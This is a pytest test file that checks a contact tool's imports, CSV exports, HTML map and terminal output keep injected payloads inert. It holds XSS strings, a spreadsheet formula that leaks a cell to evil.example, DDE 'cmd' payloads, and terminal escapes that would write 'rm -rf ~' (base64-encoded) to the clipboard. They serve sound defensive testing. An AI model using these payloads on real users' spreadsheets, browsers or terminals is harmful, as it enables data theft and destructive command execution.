"""HTML, script and formulas in every text field: stored as data, never live on the way out.

Every text field a person can fill (name, company, position, notes, tags, event names and
notes, interaction summaries) is imported holding a payload. Then:

- ``netlib export`` writes no cell a spreadsheet would run (none starts with ``=``, ``+``,
  ``-``, ``@``), and importing the export back gives the payloads back exactly;
- the map (``render_map``) holds no payload as markup: outside its JSON data block the
  page has none of them, and inside it every ``<`` is JSON-escaped (``\\u003c``).

(The report's HTML is tested with the report, in ``test_report.py``.)
"""

import csv
import json
import re

import pytest

from netlib.cli import main
from netlib.garden.analysis import analyse
from netlib.map.render import render_map
from netlib.store.core import Store

XSS = '<script>alert("x")</script>'
IMG = "<img src=x onerror=alert(1)>"
BOLD = "<b onmouseover=alert(2)>Boss</b>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
PAYLOADS = {
    "name": f"Mallory {XSS}",
    "company": f"{IMG} Corp",
    "position": BOLD,
    "notes": FORMULA,
    "tag": "<svg onload=alert(3)>",
    "event": "<iframe src=javascript:alert(4)> Summit",
    "location": "@SUM(1+1)*cmd|' /C calc'!A0",
    "event_notes": "+1+cmd|' /C calc'!A0",
    "summary": "-2+3 <script>alert(5)</script>",
}
RAW_MARKUP = [XSS, IMG, BOLD, "<svg onload", "<iframe", "<script>alert(5)", "onerror=alert"]


def q(text):
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture(scope="module")
def garden_db(tmp_path_factory):
    d = tmp_path_factory.mktemp("escaping")
    p = PAYLOADS
    (d / "people.csv").write_text(
        "id,name,emails,company,position,tags,notes\n"
        f"1,{q(p['name'])},mallory@x.example,{q(p['company'])},{q(p['position'])},{q(p['tag'])},{q(p['notes'])}\n"
        f"2,Trent Plain,trent@x.example,{q(FORMULA)},@handle,-minus;+plus,\n", encoding="utf-8")
    (d / "events.csv").write_text(
        "id,name,date,location,notes,met,followed_up\n"
        f"7,{q(p['event'])},2026-11-12,{q(p['location'])},{q(p['event_notes'])},netlib:1;netlib:2,netlib:1\n",
        encoding="utf-8")
    (d / "interactions.csv").write_text(
        "id,date,kind,direction,with,summary\n"
        f"9,2026-11-20,coffee,out,netlib:1;netlib:2,{q(p['summary'])}\n"
        f"10,2026-11-25,call,in,netlib:1,{q(FORMULA)}\n", encoding="utf-8")
    (d / "Connections.csv").write_text(
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
        f"{q(XSS)},{q(IMG)},https://www.linkedin.com/in/xss,,{q(FORMULA)},{q(BOLD)},25 Nov 2024\n",
        encoding="utf-8")
    db = d / "garden.db"
    for name in ("people.csv", "events.csv", "interactions.csv", "Connections.csv"):
        assert main(["import", str(d / name), "--store", str(db), "--strict"]) == 0
    return db


def test_payloads_are_stored_exactly(garden_db):
    with Store(garden_db, create=False) as store:
        mallory = store.person("mallory@x.example")
        assert (mallory["name"], mallory["company"], mallory["position"], mallory["notes"], mallory["tags"]) == (
            PAYLOADS["name"], PAYLOADS["company"], PAYLOADS["position"], PAYLOADS["notes"], [PAYLOADS["tag"]])
        assert [e["name"] for e in store.events()] == [PAYLOADS["event"]]
        summaries = {r[0] for r in store.con.execute("SELECT summary FROM interactions WHERE summary IS NOT NULL")}
        assert summaries == {PAYLOADS["summary"], FORMULA}
        assert store.con.execute("SELECT COUNT(*) FROM people WHERE name=?", (f"{XSS} {IMG}",)).fetchone()[0] == 1


def test_export_neutralises_every_formula_cell_and_round_trips(garden_db, tmp_path, capsys):
    out = tmp_path / "export"
    assert main(["export", str(out), "--store", str(garden_db)]) == 0
    cells = []
    for path in sorted(out.glob("*.csv")):
        with open(path, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                cells.extend((path.name, c) for c in row)
    live = [(f, c) for f, c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not live, f"cells a spreadsheet would run: {live}"
    text = {c for _, c in cells}
    for value in (FORMULA, PAYLOADS["location"], PAYLOADS["event_notes"], PAYLOADS["summary"], "@handle"):
        assert "'" + value in text
    assert "'+plus;-minus" in text  # tags are sorted and joined, then neutralised as one cell
    # the export reads back to the same values (the apostrophes come off again)
    db2 = tmp_path / "again.db"
    assert main(["import", str(out), "--store", str(db2), "--strict"]) == 0
    capsys.readouterr()
    with Store(db2, create=False) as store:
        mallory = store.person("mallory@x.example")
        assert (mallory["name"], mallory["notes"], mallory["position"]) == (
            PAYLOADS["name"], FORMULA, PAYLOADS["position"])
        assert store.person("trent@x.example")["company"] == FORMULA
        assert [e["name"] for e in store.events()] == [PAYLOADS["event"]]
        summaries = {r[0] for r in store.con.execute("SELECT summary FROM interactions WHERE summary IS NOT NULL")}
        assert summaries == {PAYLOADS["summary"], FORMULA}


def test_map_has_no_live_markup(garden_db):
    with Store(garden_db, create=False) as store:
        html = render_map(analyse(store.snapshot(), "2026-11-30"))
    block = re.search(r'<script type="application/json" id="netlib-data">(.*?)</script>', html, re.S)
    assert block, "the map's JSON data block is missing"
    outside = html[:block.start()] + html[block.end():]
    for raw in RAW_MARKUP:
        assert raw not in outside, f"{raw!r} appears unescaped in the map's HTML"
    data = block.group(1)
    assert "<" not in data and ">" not in data and "&" not in data.replace("\\u0026", "")
    assert "\\u003cscript\\u003e" in data
    decoded = json.dumps(json.loads(data), ensure_ascii=False)
    for value in (PAYLOADS["name"], PAYLOADS["company"], PAYLOADS["position"], f"{XSS} {IMG}"):
        assert json.dumps(value, ensure_ascii=False)[1:-1] in decoded, f"{value!r} missing from the map's data"


# -- the terminal (issue 14): a crafted vCard cannot retitle, clear or write the clipboard ------
_EVIL = ("Eve\x1b]0;pwned\x07 \x1b]52;c;cm0gLXJmIH4=\x07Smith\x1b[2J\x9b31m\u202e", "Evil\x1b[5m Corp\x07")


def test_a_crafted_vcard_cannot_reach_the_terminal_raw(tmp_path, capsys):
    import datetime as dt

    from netlib.cli import main

    name, org = _EVIL
    vcf = tmp_path / "evil.vcf"
    vcf.write_text(
        "BEGIN:VCARD\r\nVERSION:3.0\r\n"
        f"FN:{name}\r\nORG:{org}\r\nTITLE:Boss\x1b[8m\r\nNOTE:hi\x07\x1b]52;c;eA==\x07\r\n"
        "EMAIL:eve@evil.example\r\nCATEGORIES:tag\x1b[1m\r\nBDAY:not\x1b[2Ja date\r\nEND:VCARD\r\n"
        "BEGIN:VCARD\r\nVERSION:3.0\r\nEND:VCARD\r\n", encoding="utf-8")
    db = str(tmp_path / "g.db")
    month = dt.date.today().strftime("%Y-%m")
    said = []
    for argv in (["import", str(vcf)], ["people"], ["people", "show", "eve@evil.example"],
                 ["people", "--json"], ["log", "--with", "eve@evil.example", "--kind", "call", "hi\x1b]2;x\x07"],
                 ["people", "show", "eve@evil.example"], ["checklist", "--month", month],
                 ["people", "show", "Nobody\x1b]0;t\x07"], ["path", "Evil\x1b[5m Corp"]):
        main([*argv, "--store", db])
        out, err = capsys.readouterr()
        said.append(out + err)
    text = "".join(said)
    assert "Eve" in text and "\\x1b" in text  # shown, escaped
    for raw in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert raw not in text, repr(raw)
